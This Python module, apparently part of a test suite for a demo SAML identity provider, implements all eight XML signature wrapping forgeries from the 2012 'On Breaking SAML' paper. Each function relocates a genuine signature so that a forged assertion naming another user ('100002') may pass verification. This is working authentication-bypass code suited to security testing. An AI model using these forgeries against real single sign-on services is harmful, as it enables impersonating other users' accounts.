"""Signature wrapping in the eight known forms: a genuine signature beside an invented person.

Source of the forms: Somorovsky et al., On Breaking SAML (USENIX Security 2012), as numbered by
the tools that test for them.
"""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from sso.demo_idp.messages import DS, SAML, SAMLP, assertion_of

EVIL = "100002"


def _forge(element: etree._Element) -> etree._Element:
    """A copy without signature that names somebody else."""
    copy = deepcopy(element)
    for signature in list(copy.iter(f"{{{DS}}}Signature")):
        signature.getparent().remove(signature)
    for value in copy.iter(f"{{{SAML}}}AttributeValue", f"{{{SAML}}}NameID"):
        value.text = EVIL
    return copy


def _signature(element: etree._Element) -> etree._Element:
    found = element.find(f"{{{DS}}}Signature")
    assert found is not None
    return found


def xsw1(root: etree._Element) -> etree._Element:
    """The signed response inside the signature of a forged one."""
    forged = _forge(root)
    forged.set("ID", "_evil")
    signature = _signature(root)
    root.remove(signature)
    forged.insert(1, signature)
    signature.append(root)
    return forged


def xsw2(root: etree._Element) -> etree._Element:
    """The signed response beside its signature, both in a forged one."""
    forged = _forge(root)
    forged.set("ID", "_evil")
    signature = _signature(root)
    root.remove(signature)
    forged.insert(1, root)
    forged.insert(2, signature)
    return forged


def xsw3(root: etree._Element) -> etree._Element:
    """A forged assertion before the signed one."""
    forged = _forge(assertion_of(root))
    forged.set("ID", "_evil")
    assertion_of(root).addprevious(forged)
    return root


def xsw4(root: etree._Element) -> etree._Element:
    """The signed assertion inside a forged one."""
    signed = assertion_of(root)
    forged = _forge(signed)
    forged.set("ID", "_evil")
    root.replace(signed, forged)
    forged.append(signed)
    return root


def xsw5(root: etree._Element) -> etree._Element:
    """A forged assertion takes the signature; the genuine one, unsigned, follows it."""
    signed = assertion_of(root)
    signature = _signature(signed)
    forged = _forge(signed)
    forged.set("ID", "_evil")
    signed.remove(signature)
    forged.insert(1, signature)
    signed.addprevious(forged)
    return root


def xsw6(root: etree._Element) -> etree._Element:
    """As the fifth, with the genuine assertion inside the signature."""
    root = xsw5(root)
    forged, genuine = root.findall(f"{{{SAML}}}Assertion")
    _signature(forged).append(genuine)
    return root


def xsw7(root: etree._Element) -> etree._Element:
    """A forged assertion of the same id in the extensions."""
    forged = _forge(assertion_of(root))
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(forged)
    root.insert(1, extensions)
    return root


def xsw8(root: etree._Element) -> etree._Element:
    """A forged assertion with the genuine one in an Object of its signature."""
    signed = assertion_of(root)
    signature = _signature(signed)
    forged = _forge(signed)
    signed.remove(signature)
    forged.insert(1, signature)
    root.replace(signed, forged)
    etree.SubElement(signature, f"{{{DS}}}Object").append(signed)
    return root


OVER_RESPONSE: tuple[Callable[[etree._Element], etree._Element], ...] = (xsw1, xsw2)
OVER_ASSERTION: tuple[Callable[[etree._Element], etree._Element], ...] = (
    xsw3,
    xsw4,
    xsw5,
    xsw6,
    xsw7,
    xsw8,
)
